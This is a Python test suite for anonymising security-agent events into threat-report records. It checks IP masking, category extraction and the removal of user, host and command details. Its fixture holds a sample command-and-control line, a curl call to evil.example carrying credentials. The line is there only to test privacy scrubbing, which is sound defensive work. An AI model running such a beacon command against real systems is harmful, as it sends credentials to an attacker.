"""Raw events of agents: what a threat report has is taken, and nothing that names a person, host or file."""

import json
from dataclasses import asdict
from typing import Any

import msgspec
from hypothesis import given
from hypothesis import strategies as st

from app.intel.reports.events import AgentEvent, Cleaner, threat_of
from app.privacy.anonymisation import Pseudonyms
from tests.clock import NOW

PSEUDONYMS = Pseudonyms(b"k" * 32)
CLEANER = Cleaner(PSEUDONYMS, NOW)


def sent(conclusion: str = "malicious", **event: Any) -> AgentEvent:
    raw = {
        "id": "evt-1",
        "timestamp": "2026-04-17T09:44:12.345Z",
        "source": "process",
        "severity": "high",
        "category": "c2_beacon",
        "description": "curl run by jdoe on lab-host-7",
        "raw": {"command": "curl evil.example -u jdoe:hunter2"},
        "host": "lab-host-7",
        "metadata": {
            "sourceIP": "45.83.12.77",
            "mitreTechnique": "T1071.001",
            "userName": "jdoe",
            "commandLine": "curl evil.example -u jdoe:hunter2",
            "filePath": "/home/jdoe/secret.txt",
        },
    }
    body = {
        "event": raw | event,
        "verdict": {"conclusion": conclusion, "confidence": 91, "action": "notify"},
    }
    return msgspec.convert(body, AgentEvent)


def test_the_threat_is_taken_of_a_raw_event() -> None:
    threat = threat_of(sent(), CLEANER)
    assert threat.hour == "2026-04-17T09:00:00.000Z"
    assert threat.source_network == "45.83.0.0/16"
    assert (threat.attack_type, threat.mitre_technique) == ("c2_beacon", "T1071.001")
    assert threat.detail == {
        "severity": "high",
        "conclusion": "malicious",
        "confidence": 91,
        "action": "notify",
    }


def test_nothing_but_the_threat_is_taken_of_a_raw_event() -> None:
    text = json.dumps(asdict(threat_of(sent(), CLEANER)))
    for private in ("jdoe", "hunter2", "lab-host-7", "secret", "09:44", "curl", "evt-1"):
        assert private not in text


def test_an_address_is_evidence_only_when_the_agent_was_sure() -> None:
    assert threat_of(sent("malicious"), CLEANER).exact_source == "45.83.12.77"
    for conclusion in ("suspicious", "unknown", ""):
        assert threat_of(sent(conclusion), CLEANER).exact_source is None


WORDS = st.text(alphabet=st.characters(codec="utf-8"), max_size=30)


@given(
    st.dictionaries(
        st.sampled_from(["sourceIP", "remoteAddress", "mitreTechnique", "x"]),
        WORDS | st.integers() | st.none(),
    ),
    WORDS | st.none(),
    st.ip_addresses(),
)
def test_whatever_comes_an_address_is_stored_masked(
    metadata: dict[str, Any], category: str | None, address: Any
) -> None:
    event = sent(metadata=metadata | {"sourceIP": str(address)}, category=category)
    threat = threat_of(event, CLEANER)
    assert threat.source_network is not None
    assert threat.source_network.endswith(("/16", "/48"))
    assert threat.attack_type


def test_an_event_that_says_little_is_an_event() -> None:
    threat = threat_of(msgspec.convert({"event": {}}, AgentEvent), CLEANER)
    assert (threat.source_network, threat.attack_type) == (None, "unknown")
